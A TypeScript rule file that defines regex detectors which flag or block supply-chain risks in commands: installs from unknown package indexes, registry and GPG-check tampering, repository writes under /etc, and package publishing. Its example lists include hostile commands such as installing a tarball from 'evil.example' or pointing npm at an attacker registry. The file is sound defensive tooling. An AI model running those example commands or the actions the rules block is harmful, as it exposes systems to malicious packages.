import type { ToolRule } from "../rule.js";

const FOREIGN_INDEX =
  "https?://(?!(?:[\\w.-]+\\.)?(?:npmjs\\.org|npmjs\\.com|yarnpkg\\.com|pypi\\.org|pythonhosted\\.org|github\\.com|gitlab\\.com|crates\\.io|rubygems\\.org|golang\\.org|maven\\.org|apache\\.org|jsr\\.io|pytorch\\.org|debian\\.org|ubuntu\\.com|docker\\.com|internal\\b|[\\w.-]*internal\\.|localhost|127\\.|artifactory|nexus|packages\\.|pkg\\.dev|codeartifact))";

export const supplyRules: readonly ToolRule[] = [
  {
    id: "supply.foreign",
    title: "Installs from an unknown address or index",
    category: "supply.install",
    severity: "high",
    level: "block",
    tags: ["T1195.001", "T1195.002", "AML.T0010.005", "ASI04", "MCP04"],
    remedy: "Install from the registry the project uses.",
    when: [
      {
        on: "command",
        name: "pip pip3 uv pipx poetry",
        line: `(?:--index-url|-i|--extra-index-url|--index|--default-index|--find-links|-f)[= ]${FOREIGN_INDEX}`,
      },
      {
        on: "command",
        name: "pip pip3 uv pipx poetry",
        line: `(?:install|add|tool run|run) (?:\\S+ )*(?:\\S+@ ?)?(?:git\\+)?${FOREIGN_INDEX}`,
      },
      { on: "command", name: "python python3", line: `-m pip install (?:\\S+ )*(?:git\\+)?${FOREIGN_INDEX}` },
      {
        on: "command",
        name: "npm pnpm yarn bun npx bunx",
        line: `(?:^| )(?:install|i|add|exec|dlx|-y|--yes)? ?(?:\\S+ )*(?:git\\+)?${FOREIGN_INDEX}\\S*\\.(?:tgz|tar\\.gz|git)`,
      },
      {
        on: "command",
        name: "npm pnpm yarn bun",
        line: `(?:config set (?:\\S+:)?registry[= ]?|--registry[= ])(?:http://|${FOREIGN_INDEX})`,
        notLine: "internal|localhost|127\\.0\\.0\\.1",
      },
      { on: "command", name: "npx bunx", line: "^(?:(?:-y|--yes) )?(?:github:|gitlab:|git\\+|https?://)" },
      { on: "command", name: "pip pip3", line: `config set \\S*index-url ${FOREIGN_INDEX}` },
      { on: "command", name: "poetry", line: `source add \\S+ ${FOREIGN_INDEX}` },
      { on: "command", name: "yarn", line: `config set (?:npmRegistryServer|registry) ${FOREIGN_INDEX}` },
      { on: "command", name: "snap", line: "install .*--(?:dangerous|devmode)" },
      {
        on: "command",
        name: "dpkg rpm brew conda mamba",
        line: `(?:-i|-U|-ivh|install|-c|--channel) (?:\\S+ )*${FOREIGN_INDEX}`,
      },
      { on: "command", name: "deno bun", line: `^(?:run|install|eval)? ?(?:-\\S+ )*${FOREIGN_INDEX}` },
      { on: "command", name: "npm", line: "^owner add|^access grant|^token create|^adduser" },
      {
        on: "command",
        name: "go",
        line: `env -w .*(?:GOPROXY=http|GONOSUMDB|GONOSUMCHECK|GOINSECURE|GOFLAGS=-insecure)`,
      },
      {
        on: "command",
        name: "gem bundle",
        line: `(?:--source|-s|sources? (?:-a|--add))[= ]?(?:http://|${FOREIGN_INDEX})`,
      },
      { on: "command", name: "cargo", line: `(?:--git|--index|--registry)[= ]${FOREIGN_INDEX}` },
      { on: "command", name: "go", line: "^(?:install|get) (?:[\\w.-]*evil|\\d+\\.\\d+\\.\\d+)" },
      { on: "command", name: "apt-key rpm", line: "^add|--import" },
      { on: "command", name: "add-apt-repository", line: `${FOREIGN_INDEX}|trusted=yes` },
      {
        on: "path",
        op: ["write", "append"],
        path: "^/etc/(?:apt/(?:sources|trusted|keyrings|apt\\.conf)|yum\\.repos\\.d|pip\\.conf|npmrc)",
      },
      {
        on: "command",
        name: "apt apt-get dnf yum",
        line: "--(?:allow-unauthenticated|force-yes|nogpgcheck|allow-insecure-repositories)",
      },
      { on: "command", name: "helm", line: `(?:install|upgrade|repo add) (?:\\S+ )*(?:http://|https?://[\\w.-]*evil)` },
      {
        on: "command",
        name: "kubectl oc",
        line: `(?:apply|create|replace) (?:\\S+ )*(?:-f|--filename)[= ](?:http://|https?://(?!(?:raw\\.githubusercontent\\.com|github\\.com|k8s\\.io|[\\w.-]+\\.k8s\\.io|storage\\.googleapis\\.com)))`,
      },
      {
        on: "command",
        name: "docker podman",
        line: "(?:run|pull|create) (?:\\S+ )*(?!(?:docker\\.io|ghcr\\.io|quay\\.io|gcr\\.io|public\\.ecr\\.aws|mcr\\.microsoft\\.com|registry\\.k8s\\.io|registry\\.gitlab\\.com|[\\w-]+\\.azurecr\\.io|[\\w.-]+\\.amazonaws\\.com|[\\w-]+-docker\\.pkg\\.dev|localhost|registry\\.internal|harbor\\.)[:/])(?:[\\w-]+\\.)+(?:example|xyz|top|tk|ru|cn|evil\\.\\w+)(?::\\d+)?/\\S+",
      },
    ],
    examples: {
      match: [
        "pip install --index-url http://203.0.113.9/simple/ requests",
        "npm install http://evil.example/pkg.tgz",
        "npm config set registry http://registry.evil.example/",
      ],
      ignore: [
        "pip install requests",
        "npm install",
        "npm install left-pad --registry https://npm.internal.example.com",
        "docker run --rm node:20 node -v",
      ],
    },
  },
  {
    id: "supply.change",
    title: "Publishes packages or loosens how they are installed",
    category: "supply.install",
    severity: "medium",
    level: "flag",
    tags: ["T1195.002", "ASI04"],
    remedy: "Let the release pipeline publish.",
    when: [
      {
        on: "command",
        name: "npm pnpm yarn bun",
        line: "^(?:publish|unpublish|deprecate|dist-tag|access|owner|token|star|hook)\\b|^npm publish",
        noFlag: "dry-run",
      },
      {
        on: "command",
        name: "npm pnpm yarn",
        line: "--registry[= ]|config set (?:registry|strict-ssl|ignore-scripts|unsafe)|--ignore-scripts=false|https?://\\S+\\.(?:tgz|tar\\.gz)|git\\+",
      },
      { on: "command", name: "twine", line: "^upload" },
      { on: "command", name: "gem", line: "^(?:push|yank|owner)" },
      { on: "command", name: "cargo poetry uv flit hatch", line: "^(?:publish|yank|owner)\\b" },
      { on: "command", name: "docker podman", line: "^(?:push|login)|^(?:\\S+ )*image push|buildx .*--push" },
      {
        on: "command",
        name: "pip pip3",
        line: "--break-system-packages|--trusted-host|--index-url|--extra-index-url|(?:^| )-i |git\\+|install (?:\\S+ )*https?://",
      },
      { on: "command", name: "git", line: "http\\.sslVerify(?:=| )false" },
      { on: "command", name: "mvn gradle gradlew", line: "(?:^| )(?:deploy|publish|release:perform)(?: |$)" },
      { on: "command", name: "dotnet nuget", line: "nuget push|^push" },
      { on: "command", name: "brew", line: "^tap \\S+ https?:" },
      {
        on: "command",
        name: "apt apt-get dnf yum apk pacman zypper snap",
        line: "^(?:-\\S+ )*(?:remove|purge|autoremove|erase|-R|-Rns)\\b",
      },
      { on: "command", name: "go", line: "env -w" },
      { on: "command", name: "pip pip3", line: "config set" },
      {
        on: "command",
        name: "vsce ovsx lerna changeset semantic-release goreleaser np release-it",
        line: "publish|release|^$",
      },
      {
        on: "command",
        name: "npx pnpm yarn",
        line: "(?:^| )(?:semantic-release|changeset publish|lerna publish|vsce publish|np)(?: |$)",
      },
      { on: "command", name: "helm", line: "^push" },
      { on: "command", name: "code cursor", line: "--install-extension" },
    ],
    examples: {
      match: ["npm publish", "twine upload dist/*", "npm config set strict-ssl false"],
      ignore: ["npm install", "npm pack", "docker pull node:20", "npm publish --dry-run"],
    },
  },
];
